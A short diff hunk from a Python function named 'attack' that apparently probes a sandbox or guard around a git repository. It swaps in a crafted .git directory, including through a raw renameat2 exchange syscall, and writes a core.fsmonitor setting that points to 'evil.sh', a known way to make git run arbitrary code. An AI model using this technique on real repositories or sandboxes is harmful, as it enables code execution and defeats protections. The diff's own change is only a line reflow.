@@ -21,7 +21,8 @@ def attack(a):
     attempt(os.rename, ".git", ".git.old")
     attempt(lambda: subprocess.run(["cp", "-a", ".git.old", ".git"], check=True))
     attempt(lambda: subprocess.run(["git", "init", "-q", "fresh"], check=True))
-    attempt(put, "fresh/.git/config", f"[core]\n\tbare = false\n\tfsmonitor = {a['ws']}/evil.sh\n", "a")
+    attempt(put, "fresh/.git/config",
+            f"[core]\n\tbare = false\n\tfsmonitor = {a['ws']}/evil.sh\n", "a")
     attempt(os.rename, "fresh/.git", ".git")
     attempt(lambda: syscall(316, -100, "fresh/.git", -100, ".git", 2))
     attempt(put, ".git/config", f"[core]\n\tfsmonitor = {a['ws']}/evil.sh\n", "a")
